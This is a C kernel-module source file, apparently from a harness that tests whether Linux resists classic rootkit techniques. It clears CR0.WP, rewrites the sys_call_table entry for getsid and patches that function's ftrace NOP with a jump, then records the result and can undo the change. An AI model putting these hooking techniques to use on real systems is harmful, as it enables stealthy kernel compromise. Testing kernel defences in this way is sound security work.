// SPDX-License-Identifier: GPL-2.0-only
/*
 * A rootkit's hook: clears CR0.WP for the moment in which it writes to read-only memory.
 * It writes itself to the system-call table, as rootkits have always done. Linux now
 * calls through a switch and not through the table, so it also replaces the first
 * instruction, ftrace's NOP, of the function in the table.
 */
#include <linux/irqflags.h>
#include <linux/string.h>
#include <linux/unistd.h>
#include <asm/processor-flags.h>
#include <asm/ptrace.h>
#include "access.h"
#include "cr.h"
#include "hook.h"

#define JUMP_SIZE 5

static void **table_entry;
static u8 *function;
static void *old_entry;
static u8 old_code[JUMP_SIZE];
static bool hooked;

static long answer(const struct pt_regs *regs)
{
	return HOOKED;
}

static bool find(void)
{
	static const u8 nop[JUMP_SIZE] = { 0x0f, 0x1f, 0x44, 0x00, 0x00 };
	void **table = symbol("sys_call_table");
	u8 *code = symbol("__x64_sys_getsid");

	if (!table || !code)
		return false;
	table_entry = &table[__NR_getsid];
	/* The NOP comes after an ENDBR, if there is one. */
	for (int i = 0; i <= 4; i += 4) {
		function = code + i;
		if (!memcmp(function, nop, sizeof(nop)))
			return true;
	}
	return false;
}

static bool write_both(void *entry, const u8 *code)
{
	return poke(table_entry, &entry, sizeof(entry)) &&
	       poke(function, code, JUMP_SIZE);
}

void attack_syscall_hook(const struct attack *attack, struct attempt *a)
{
	u8 jump[JUMP_SIZE] = { 0xe9 };
	void *to = answer;
	unsigned long rip;
	bool found;
	s32 offset;

	local_irq_enable();
	found = find();
	local_irq_disable();
	a->old = a->seen = read_register(REG_CR0);
	a->new = wanted(attack, a->old);
	if (!found)
		return;
	/* Otherwise objtool takes the subtrahend for the address of another function. */
	OPTIMIZER_HIDE_VAR(to);
	offset = (s32)((u8 *)to - (function + JUMP_SIZE));
	memcpy(jump + 1, &offset, sizeof(offset));
	old_entry = *table_entry;
	memcpy(old_code, function, JUMP_SIZE);

	a->fault = rootkits_cr0(a->new, &a->rip);
	a->seen = read_register(REG_CR0);
	hooked = write_both(to, jump);
	if (a->seen != a->old)
		mov_cr0(a->old, &rip);
}

void undo_syscall_hook(void)
{
	u64 cr0 = read_register(REG_CR0);
	unsigned long flags, rip;

	if (!hooked)
		return;
	local_irq_save(flags);
	mov_cr0(cr0 & ~X86_CR0_WP, &rip);
	write_both(old_entry, old_code);
	mov_cr0(cr0, &rip);
	local_irq_restore(flags);
	hooked = false;
}
